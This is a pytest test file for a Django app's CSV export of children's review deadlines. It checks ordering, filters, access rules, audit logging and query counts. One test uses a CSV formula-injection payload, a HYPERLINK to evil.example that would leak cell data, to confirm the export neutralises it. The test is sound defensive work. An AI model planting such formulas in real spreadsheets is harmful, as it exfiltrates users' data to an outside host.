"""The service deadlines page (``/reviews/service/``) as a CSV download: every child the page
would list with its filters, in its order (first review date not known, then soonest due, then
by name), not a page; for the users who may see the page and only the children they may see;
labels not codes; formula-safe; one audit event with the filters and the number of rows;
streamed, in a fixed number of queries whatever the number of children."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone

from children.codes import LegalStatus, PlacementType
from iro_service.models import AuditAction, AuditEvent
from reviews import exports
from reviews.models import ReviewSchedule
from reviews.schedule import schedule_refresh
from tests.factories import TeamFactory, make_child_in_care, make_iro

pytestmark = pytest.mark.django_db

URL = reverse("reviews:service_csv")


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def set_due(child, due_on, *, unknown=False):
    ReviewSchedule.objects.filter(child=child).update(next_due_on=due_on, first_due_unknown=unknown)


def exports_by(user) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=AuditAction.EXPORTED, actor=user).order_by("pk"))


@pytest.fixture
def south_iro(db):
    return make_iro(username="iro_c", first_name="Cy", last_name="Dunn", team=TeamFactory(name="South team"))


@pytest.fixture
def service(iro, other_iro, south_iro):
    """Ada holds Ola (overdue) and Ria (first review date not known); Ben holds Sam (overdue);
    Cy (South) holds Tia (due tomorrow) and Uma (no date yet)."""
    today = timezone.localdate()
    start = today - dt.timedelta(days=400)
    made = {
        name: make_child_in_care(iro=holder, looked_after_on=start, first_name=name, last_name="Test")
        for name, holder in [("Ola", iro), ("Ria", iro), ("Sam", other_iro), ("Tia", south_iro), ("Uma", south_iro)]
    }
    schedule_refresh([c.pk for c in made.values()])
    set_due(made["Ola"], today - dt.timedelta(days=5))
    set_due(made["Sam"], today - dt.timedelta(days=2))
    set_due(made["Tia"], today + dt.timedelta(days=1))
    set_due(made["Ria"], None, unknown=True)
    set_due(made["Uma"], None)
    return made


def first_names(rows) -> list[str]:
    return [row[1].split()[0] for row in rows[1:]]


def test_the_csv_lists_every_child_in_the_pages_order_with_labels(client_for, manager, service):
    today = timezone.localdate()
    rows = rows_of(client_for(manager).get(URL))
    assert rows[0] == list(exports.HEADER)
    assert first_names(rows) == ["Ria", "Ola", "Sam", "Tia", "Uma"]
    ola = service["Ola"]
    row = rows[2]
    assert row[:6] == [
        ola.local_reference,
        "Ola Test",
        str(ola.age_on(today)),
        LegalStatus("C2").label,
        PlacementType("U4").label,
        (today - dt.timedelta(days=400)).isoformat(),
    ]
    assert row[6] == (today - dt.timedelta(days=5)).isoformat()
    assert row[8:] == ["Not booked", "Overdue", "Ada Okafor"]
    assert rows[1][6] == "Not known"  # Ria
    assert rows[4][9] == "Due within 15 working days"  # Tia
    assert (rows[5][6], *rows[5][8:]) == ("", "Not booked", "No date", "Cy Dunn")  # Uma


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"status": "overdue"}, ["Ola", "Sam"]),
        ({"status": "not_known"}, ["Ria"]),
        ({"iro": "ada"}, ["Ria", "Ola"]),
        ({"team": "south"}, ["Tia", "Uma"]),
    ],
)
def test_the_csv_keeps_the_filters(client_for, manager, iro, south_iro, service, query, expected):
    if query.get("iro") == "ada":
        query = {"iro": iro.pk}
    if query.get("team") == "south":
        query = {"team": south_iro.iro_profile.team_id}
    assert first_names(rows_of(client_for(manager).get(URL, query))) == expected


def test_someone_given_the_page_sees_only_the_children_they_may_see(client_for, iro, service):
    """An IRO granted the page by hand still exports only their own caseload (visible_to)."""
    iro.user_permissions.add(Permission.objects.get(codename="view_service_reviews"))
    assert first_names(rows_of(client_for(iro).get(URL))) == ["Ria", "Ola"]


@pytest.mark.parametrize("role", ["iro", "committee", "administrator"])
def test_only_those_who_see_the_page_may_download_it(client_for, request, service, role):
    user = request.getfixturevalue(role)
    assert client_for(user).get(URL).status_code == 403
    assert exports_by(user) == []


def test_a_visitor_who_has_not_signed_in_is_sent_to_sign_in(client, service):
    response = client.get(URL)
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


def test_formulas_are_written_as_text_and_markup_as_it_is(client_for, manager, iro):
    child = make_child_in_care(
        iro=iro, first_name='=HYPERLINK("https://evil.example/?"&A1,"Open")', last_name="<script>x</script>"
    )
    schedule_refresh([child.pk])
    (_, row) = rows_of(client_for(manager).get(URL))
    assert row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open") <script>x</script>'


def test_each_download_writes_one_event_with_the_filters_and_the_row_count(client_for, manager, service):
    rows_of(client_for(manager).get(URL, {"status": "overdue", "page": "2"}))
    (event,) = exports_by(manager)
    assert (event.child_id, event.path) == (None, URL)
    assert event.changes == {"filters": {"status": "overdue"}, "rows": 2}
    assert event.summary == "Reviews across the service exported (CSV): 2 rows"


def test_the_service_page_links_to_its_csv_with_the_filters(client_for, manager, service):
    response = client_for(manager).get(reverse("reviews:service"), {"status": "overdue"})
    assert f'href="{URL}?status=overdue"' in response.text


#: Sign-in (session, user, two for permissions), the filter's IROs and teams, the count, the
#: audit insert, then the dated children and the undated ones: each one query, read a chunk at
#: a time (the authority's closure days, when it has any, add one query a chunk).
QUERIES = 9


@pytest.mark.parametrize("size", [3, 30])
def test_the_csv_takes_the_same_queries_at_any_size(client_for, manager, iro, size, django_assert_max_num_queries):
    today = timezone.localdate()
    children = [
        make_child_in_care(iro=iro, first_name=f"Child{n}", last_name="Test", local_reference=f"Q{n:04d}")
        for n in range(size)
    ]
    schedule_refresh([c.pk for c in children])
    for n, child in enumerate(children[: size // 2]):
        set_due(child, today + dt.timedelta(days=n))
    client = client_for(manager)
    with django_assert_max_num_queries(QUERIES):
        assert len(rows_of(client.get(URL))) - 1 == size
